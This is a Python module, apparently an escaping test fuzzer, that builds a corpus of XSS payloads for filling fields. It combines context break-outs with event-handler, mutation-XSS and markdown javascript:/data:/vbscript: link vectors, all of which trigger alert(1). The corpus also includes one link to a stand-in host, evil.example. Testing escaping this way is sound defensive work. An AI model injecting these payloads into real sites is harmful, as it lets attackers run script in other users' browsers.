"""Strings that would run as a script if some page wrote them down as they are."""

from itertools import product

RUN = "alert(1)"
# Ways out of where a text may stand: of an attribute, a tag, a title, a box, a comment, a script, a style, a mark-down link.
WAYS_OUT = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "-->",
    "</script>",
    "</style>",
    "</option></select>",
    "]]>",
)  # fmt: skip
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={RUN} src>'>",
)  # fmt: skip
MARKDOWN = (
    f"[a](javascript:{RUN})",
    f"[a](JaVaScRiPt:{RUN})",
    f"[a](&#106;avascript:{RUN})",
    f"[a](java\tscript:{RUN})",
    f"[a](data:text/html,<script>{RUN}</script>)",
    f"[a](vbscript:{RUN})",
    f'[a](/ "\' onmouseover={RUN}")',
    f"![a](x\" onerror=\"{RUN})",
    f"<javascript:{RUN}>",
    f"[a]: javascript:{RUN}\n[a]",
    f"`<img src=x onerror={RUN}>`",
    f"<a href=javascript:{RUN}>x</a>",
    "[ ](//evil.example)",
)  # fmt: skip
CORPUS = tuple(way + element for way, element in product(WAYS_OUT, ELEMENTS)) + MARKDOWN
# Short enough for any column, and out of anywhere.
SHORT = f"\"'--></title></textarea></script><img src=x onerror={RUN}>"


class Tainter:
    """Gives every name another string of the corpus that fits; long texts get as many as they hold."""

    def __init__(self) -> None:
        self.turn = 0
        self.used: set[str] = set()

    def __call__(self, text: str, most: int) -> str:
        if most >= 400:
            words: list[str] = []
            while sum(map(len, words)) + 2 * len(words) + 120 < most and len(words) < len(CORPUS):
                words.append(self._next(most))
            return "\n\n".join(words)[:most]
        return self._next(most)

    def _next(self, most: int) -> str:
        for _try in CORPUS:
            self.turn += 1
            chosen = CORPUS[self.turn % len(CORPUS)]
            if len(chosen) <= most:
                self.used.add(chosen)
                return chosen
        return SHORT[:most]
